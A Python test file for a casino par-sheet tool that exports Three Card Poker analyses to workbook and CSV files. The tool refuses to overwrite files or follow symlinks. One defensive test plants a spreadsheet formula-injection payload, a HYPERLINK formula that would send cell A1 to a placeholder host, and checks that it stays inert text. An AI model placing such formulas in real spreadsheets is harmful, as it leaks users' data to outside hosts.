"""``analyze game FILE --export DIR`` and ``--cap-curve``: a described game's par sheet as a
workbook and a CSV (the same writer as the dedicated games'), its strategy by hand class as a
CSV, never overwriting; read back with openpyxl, every figure equals the analysis's exactly.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tablecert.distributed import LocalExecutor
from tablecert.games import stud
from tablecert.games.par_export import read_xlsx, sheet_name
from tablecert.rules import RULES_DIR, load_rules
from tests.games.test_stud_caps import cap_table, variant
from tests.support.cli_support import tablecert

THREE_CARD = "q-poker.standard"
FILES = ["par-sheet.xlsx", "par-sheet.csv", "strategy.csv"]


def _strategy(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _exported(tmp_path: Path, rules: str, *extra: str) -> tuple[Path, dict[str, Any]]:
    out = tmp_path / "export"
    run = tablecert(["analyze", "game", rules, "--json", "--export", str(out), *extra])
    assert run.code == 0, run.stderr
    return out, json.loads(run.stdout)


def test_the_workbook_holds_the_analysis_exactly(tmp_path: Path) -> None:
    out, data = _exported(tmp_path, THREE_CARD)
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    sheet = stud.analyze(THREE_CARD)
    data.pop("tablecert_version")
    assert data == sheet.as_json()  # --export changes nothing of the analysis
    book = dict(read_xlsx(out / "par-sheet.xlsx"))
    assert list(book) == ["Summary", "Against the dealer", "pair plus", "Strategy"]
    summary = book["Summary"]
    assert summary[0] == ["par sheet", sheet.title]
    assert summary[4] == ["situations", 22_100]
    assert summary[5] == ["dealer completions per situation", 18_424]
    against = next(r for r in summary if r[:1] == ["Against the dealer"])
    assert against[2] == "686689/20358520"  # the house edge, exactly
    assert Fraction(against[2]) == sheet.house_edge
    assert Fraction(against[4]) == sheet.element_of_risk
    pair_plus = next(r for r in summary if r[:1] == ["pair plus"])
    assert Fraction(pair_plus[2]) == sheet.side_bets[0].house_edge == Fraction(128, 5525)
    # The return table: every line's combinations and exact value, then the totals.
    rows = book["Against the dealer"]
    assert [(r[0], r[5], Fraction(r[4])) for r in rows[1:-1]] == [
        (r.event, r.count, r.value) for r in sheet.rows
    ]
    assert rows[-1][5] == 22_100 * 18_424
    assert Fraction(rows[-1][9]) == -sheet.house_edge
    straight_flush = next(r for r in book["pair plus"] if r[:1] == ["straight-flush"])
    assert straight_flush[2:6] == ["40 to 1", 40, "40/1", 48]
    strategy = book["Strategy"]
    assert strategy[0] == ["category", "situations: fold", "situations: raise 1x", "indifferent"]
    assert [r[0] for r in strategy[1:]] == [s.category for s in sheet.strategy]
    assert [tuple(r[1:3]) for r in strategy[1:]] == [s.situations for s in sheet.strategy]
    # The CSV: the same sheets, each row led by its sheet's name.
    text = _strategy(out / "par-sheet.csv")
    assert text[8][:4] == ["Summary", "Against the dealer", "0.033729809436", "686689/20358520"]
    assert sum(1 for r in text if r[0] == "Against the dealer") == len(rows)


def test_the_strategy_csv_decides_every_situation_by_hand_class(tmp_path: Path) -> None:
    out, _ = _exported(tmp_path, THREE_CARD)
    rows = _strategy(out / "strategy.csv")
    assert rows[0] == [
        "category",
        "player's ranks",
        "dealer's cards",
        "situations: fold",
        "situations: raise 1x",
        "decision",
    ]
    by_class = {(r[0], r[1]): r for r in rows[1:]}
    # Three Card Poker's published strategy: play Q-6-4 or better, fold Q-6-3 or worse.
    assert by_class[("high-card", "Q 6 4")][3:] == ["0", "60", "raise 1x"]
    assert by_class[("high-card", "Q 6 3")][3:] == ["60", "0", "fold"]
    assert by_class[("pair", "3 2 2")][3:] == ["0", "24", "raise 1x"]  # 6 pairs x 4 threes
    assert all(r[2] == "all hidden" for r in rows[1:])
    # Every situation once, and the categories' totals are the sheet's.
    assert sum(int(r[3]) + int(r[4]) for r in rows[1:]) == 22_100
    totals: Counter[str] = Counter()
    for r in rows[1:]:
        totals[r[0]] += int(r[4])
    sheet = stud.analyze(THREE_CARD)
    assert dict(totals) == {s.category: s.situations[1] for s in sheet.strategy}


def _with_upcard(tmp_path: Path) -> Path:
    """Three Card Poker with one dealer card face up (a 3-card game with an upcard)."""
    return variant(
        tmp_path,
        THREE_CARD,
        "",
        'upcards = { value = 0, article = "第七條"',
        'upcards = { value = 1, article = "第七條"',
    )


def test_a_strategy_by_upcard_is_the_same_from_shards(tmp_path: Path) -> None:
    rules = load_rules(_with_upcard(tmp_path))
    local = stud.analyze(rules, strategy=True)
    sharded = stud.analyze(rules, strategy=True, executor=LocalExecutor(), shards_count=3)
    assert local.strategy_table is not None
    assert sharded.strategy_table == local.strategy_table
    table = local.strategy_table
    assert table.situations == local.situations == 22_100 * 49
    cells = table.cells()
    assert cells[0][2] == "dealer's upcard"
    # Hand classes whose decision depends on the upcard's rank.
    decided: dict[tuple[str, tuple[int, ...]], set[str]] = {}
    for r in table.rows:
        decided.setdefault((r.category, r.ranks), set()).add(r.decision(table.decisions))
    assert any(len(d) > 1 for d in decided.values())
    # The upcard shown is a rank; every class's situations add up to its category's.
    assert {c[2] for c in cells[1:]} == {
        "2",
        "3",
        "4",
        "5",
        "6",
        "7",
        "8",
        "9",
        "10",
        "J",
        "Q",
        "K",
        "A",
    }
    per_category: Counter[str] = Counter()
    for r in table.rows:
        per_category[r.category] += sum(r.situations)
    assert dict(per_category) == {s.category: sum(s.situations) for s in local.strategy}


def test_an_export_is_never_overwritten(tmp_path: Path) -> None:
    out, _ = _exported(tmp_path, THREE_CARD)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    again = tablecert(["analyze", "game", THREE_CARD, "--export", str(out)])
    assert again.code == 2
    assert again.error_lines == [
        f"error: --export: {out / 'par-sheet.xlsx'} exists (--force to replace it)"
    ]
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    forced = tablecert(["analyze", "game", THREE_CARD, "--export", str(out), "--force"])
    assert forced.code == 0, forced.stderr
    # The same analysis: byte-identical files (a certification can sign them).
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    nowhere = tablecert(["analyze", "game", THREE_CARD, "--export", str(tmp_path / "a" / "b")])
    assert nowhere.code == 2
    assert "does not exist" in nowhere.error_lines[0]


def test_a_link_in_the_export_folder_is_never_followed(tmp_path: Path) -> None:
    out = tmp_path / "export"
    out.mkdir()
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep", encoding="utf-8")
    (out / "strategy.csv").symlink_to(target)
    run = tablecert(["analyze", "game", THREE_CARD, "--export", str(out), "--force"])
    assert run.code == 2
    assert "strategy.csv" in run.error_lines[0]
    assert target.read_text(encoding="utf-8") == "keep"
    assert sorted(p.name for p in out.iterdir()) == ["strategy.csv"]


def test_formula_looking_text_from_the_rule_file_stays_text(tmp_path: Path) -> None:
    title = '=HYPERLINK("http://x.invalid/?"&A1,"par sheet")'
    text = (RULES_DIR / f"{THREE_CARD}.toml").read_text(encoding="utf-8")
    old_title = 'title = { value = "Three Card Poker (standard casino rules: ties push)"'
    old_fold = 'fold = { value = -1, article = "第九條(三)"'
    assert text.count(old_title) == text.count(old_fold) == 1
    text = text.replace(old_title, f"title = {{ value = {json.dumps(title)}")
    text = text.replace(old_fold, 'fold = { value = -1, article = "@SUM(1+1)"')
    path = tmp_path / "q-poker.formulas.toml"
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "export"
    run = tablecert(["analyze", "game", str(path), "--export", str(out)])
    assert run.code == 0, run.stderr
    book = load_workbook(out / "par-sheet.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    written = [c for c in cells if c.value in (title, "@SUM(1+1)")]
    assert {c.value for c in written} == {title, "@SUM(1+1)"}
    assert all(c.data_type == "s" for c in written)  # string cells, never formulas
    lines = list(csv.reader(io.StringIO((out / "par-sheet.csv").read_text(encoding="utf-8-sig"))))
    assert ["Summary", "par sheet", "'" + title] in lines
    fold = next(r for r in lines if r[:2] == ["Against the dealer", "fold"])
    assert fold[2] == "'@SUM(1+1)"
    assert not any(c.startswith(("=", "@")) for r in lines for c in r)


def test_sheet_names_are_valid_and_distinct() -> None:
    assert sheet_name("a/b:c*d?e[f]g\\h", set()) == "a-b-c-d-e-f-g-h"
    assert sheet_name("x" * 40, set()) == "x" * 31
    assert sheet_name("Summary", {"summary"}) == "Summary (2)"
    assert sheet_name("", set()) == "Side bet"


#: Standard Three Card Poker in the generic layout (the statute layout's ``[play]`` of
#: ``q-poker.standard`` written as qualifier, decision and settlement), the ante bonus and
#: the ante and play capped together on the straight flush and trips.
GENERIC_THREE_CARD = """
[qualifier]
category = { value = "high-card", article = "第九條(四)" }
ranks = { value = ["Q"], article = "第九條(四)" }

[decision]
raises = { value = [1], article = "第九條(二)" }

[settlement]
fold = { value = -1, article = "第九條(三)" }
ties = { value = "push", article = "第八條" }

[settlement.ante]
not_qualifying = { value = 1, article = "第九條(五)" }
win = { value = 1, article = "第九條(七)" }
loss = { value = -1, article = "第九條(六)" }

[settlement.raise]
not_qualifying = { value = 0, article = "第九條(五)" }
loss = { value = -1, article = "第九條(六)" }

[settlement.raise.win]
straight-flush = { value = 1, article = "第九條(七)(1)" }
three-of-a-kind = { value = 1, article = "第九條(七)(2)" }
straight = { value = 1, article = "第九條(七)(3)" }
flush = { value = 1, article = "第九條(七)(4)" }
pair = { value = 1, article = "第九條(七)(4)" }
high-card = { value = 1, article = "第九條(七)(4)" }

[settlement.bonus]
straight-flush = { value = 5, article = "第九條(七)(1)" }
three-of-a-kind = { value = 4, article = "第九條(七)(2)" }
straight = { value = 1, article = "第九條(七)(3)" }
flush = { value = 0, article = "第九條(七)(4)" }
pair = { value = 0, article = "第九條(七)(4)" }
high-card = { value = 0, article = "第九條(七)(4)" }
"""


def _generic_three_card(tmp_path: Path) -> Path:
    text = (RULES_DIR / f"{THREE_CARD}.toml").read_text(encoding="utf-8")
    cap = cap_table("0", "25", ["straight-flush", "three-of-a-kind"], ["ante", "raise", "bonus"])
    path = tmp_path / "three-card.generic.toml"
    path.write_text(text[: text.index("[play]")] + GENERIC_THREE_CARD + cap, encoding="utf-8")
    return path


def test_the_cap_curve_gives_the_edge_at_each_maximum(tmp_path: Path) -> None:
    path = _generic_three_card(tmp_path)
    out = tmp_path / "export"
    run = tablecert(
        ["analyze", "game", str(path), "--json", "--cap-curve", "0,100,5000", "--export", str(out)]
    )
    assert run.code == 0, run.stderr
    data = json.loads(run.stdout)
    # Under no maximum, the generic layout is standard Three Card Poker's published sheet.
    assert data["house_edge"]["exact"] == "686689/20358520"
    curve = data["cap_curve"]
    assert [(p["maximum_payout"], p["method"]) for p in curve] == [
        ("0", "same values"),  # the file's own maximum (none): its analysis
        ("100", "full analysis"),  # 4 antes of 25: below a straight flush's 7, trips' 6
        ("5000", "same values"),  # 200 antes: above every payout, no value changes
    ]
    capped = stud.analyze(load_rules(path), cap=100)
    assert Fraction(curve[0]["house_edge"]["exact"]) == Fraction(686_689, 20_358_520)
    assert Fraction(curve[1]["house_edge"]["exact"]) == capped.house_edge
    assert Fraction(curve[1]["element_of_risk"]["exact"]) == capped.element_of_risk
    assert capped.house_edge > Fraction(686_689, 20_358_520)  # capping costs the player
    assert Fraction(curve[2]["house_edge"]["exact"]) == Fraction(686_689, 20_358_520)
    capped_lines = sorted(r.event for r in capped.rows if r.event.endswith("(capped)"))
    assert capped_lines == [
        "raise 1x: dealer does not qualify (straight-flush) (capped)",
        "raise 1x: dealer does not qualify (three-of-a-kind) (capped)",
        "raise 1x: dealer wins (straight-flush) (capped)",
        "raise 1x: player wins with straight-flush (capped)",
        "raise 1x: player wins with three-of-a-kind (capped)",
        "raise 1x: tie (straight-flush) (capped)",  # the bonus alone: 5 > 4
    ]
    sheet = dict(read_xlsx(out / "par-sheet.xlsx"))["Cap curve"]
    assert sheet[0][0] == "maximum payout"
    assert [(r[0], Fraction(r[2]), r[5]) for r in sheet[1:]] == [
        (p["maximum_payout"], Fraction(p["house_edge"]["exact"]), p["method"]) for p in curve
    ]


def test_a_cap_curve_of_a_game_without_a_cap_is_an_input_error() -> None:
    run = tablecert(["analyze", "game", "q-poker.standard", "--cap-curve", "0,5"])
    assert run.code == 2
    assert run.error_lines == [
        "error: the rule file sets no per-round cap (settlement.cap, or play.cap): there is no "
        "maximum payout to change"
    ]
    bad = tablecert(["analyze", "game", "q-poker.standard", "--cap", "-3"])
    assert bad.code == 2
    assert "negative" in bad.error_lines[0]


@pytest.mark.parametrize("rules", ["q-poker.macau", "q-poker.standard"])
def test_exporting_changes_no_figure(rules: str) -> None:
    plain = stud.analyze(rules)
    with_strategy = stud.analyze(rules, strategy=True)
    assert with_strategy.as_json() == plain.as_json()
    assert with_strategy.strategy_table is not None
    assert with_strategy.strategy_table.situations == plain.situations


def test_the_sheet_states_the_cap_it_was_computed_under(tmp_path: Path) -> None:
    path = _generic_three_card(tmp_path)
    assert "per_round_cap" not in stud.analyze(load_rules(path)).as_json()  # 0: no maximum
    out = tmp_path / "export"
    run = tablecert(["analyze", "game", str(path), "--json", "--cap", "100", "--export", str(out)])
    assert run.code == 0, run.stderr
    data = json.loads(run.stdout)
    assert data["per_round_cap"] == {
        "maximum_payout": "100",
        "ante": "25",
        "antes": {"exact": "4/1", "decimal": "4.000000000000"},
        "categories": ["straight-flush", "three-of-a-kind"],
        "bets": ["ante", "raise", "bonus"],
        "article": "Rules: cap",
    }
    summary = dict(read_xlsx(out / "par-sheet.xlsx"))["Summary"]
    assert [
        "per-round maximum payout",
        "100 against an ante of 25 (4/1 antes): ante, raise, bonus on straight-flush, "
        "three-of-a-kind",
        "Rules: cap",
    ] in summary
    assert Fraction(data["house_edge"]["exact"]) > Fraction(686_689, 20_358_520)
